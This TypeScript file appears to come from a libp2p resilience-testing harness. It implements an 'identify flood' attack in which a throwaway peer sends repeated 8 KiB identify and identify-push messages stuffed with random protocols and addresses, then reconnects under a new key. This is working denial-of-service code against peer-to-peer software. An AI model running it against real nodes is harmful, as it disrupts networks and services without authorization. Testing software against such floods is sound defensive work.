/** Attacks with what a peer says of itself. */
import { generateKeyPair } from '@libp2p/crypto/keys'
import { multiaddr } from '@multiformats/multiaddr'
import { randomBytes } from 'node:crypto'
import { type Attack, untilOver } from '../attack.ts'
import { dial, openLiar, openStream, send } from '../liar.ts'
import { field, frame } from '../wire.ts'

const IDENTIFY = '/ipfs/id/1.0.0'
const PUSH = '/ipfs/id/push/1.0.0'

/** Messages that are read of one identify, and bytes of each (libp2p identify). */
const MESSAGES = 10
const MESSAGE_BYTES = 8 << 10

/** Says ten times 8 KiB of protocols and addresses, pushes the same again, and comes back as somebody else. */
export async function identifyFlood (attack: Attack): Promise<void> {
  let isFirst = true
  await untilOver(attack, async () => {
    const key = await generateKeyPair('Ed25519')
    const liar = await openLiar({ key, identifies: false })
    const says = Array.from({ length: MESSAGES }, (_, index) => index % 2 === 0 ? manyProtocols() : manyAddresses())
    await liar.handle(IDENTIFY, (stream) => {
      attack.count('identified')
      void (async () => {
        for (const message of says) await send(stream, message)
        await stream.close()
      })().catch(() => {})
    })
    try {
      const connection = await dial(liar, attack.victim, attack.signal)
      if (isFirst) attack.inPosition()
      isFirst = false
      for (let push = 0; push < 5; push++) {
        const stream = await openStream(connection, PUSH, attack.signal)
        for (const message of says) await send(stream, message)
        attack.count('pushed')
        await stream.close({ signal: attack.signal })
      }
    } finally {
      await liar.stop()
    }
  })
}

function manyProtocols (): Uint8Array {
  return filled(() => field(3, Buffer.from(`/${randomBytes(8).toString('hex')}`)))
}

function manyAddresses (): Uint8Array {
  return filled(() => field(2, multiaddr(`/ip4/127.${randomBytes(3).join('.')}/tcp/1`).bytes))
}

function filled (makeField: () => Uint8Array): Uint8Array {
  const fields: Uint8Array[] = []
  for (let byteLength = 0; byteLength < MESSAGE_BYTES - 64;) {
    const next = makeField()
    byteLength += next.byteLength
    fields.push(next)
  }
  return frame(...fields)
}
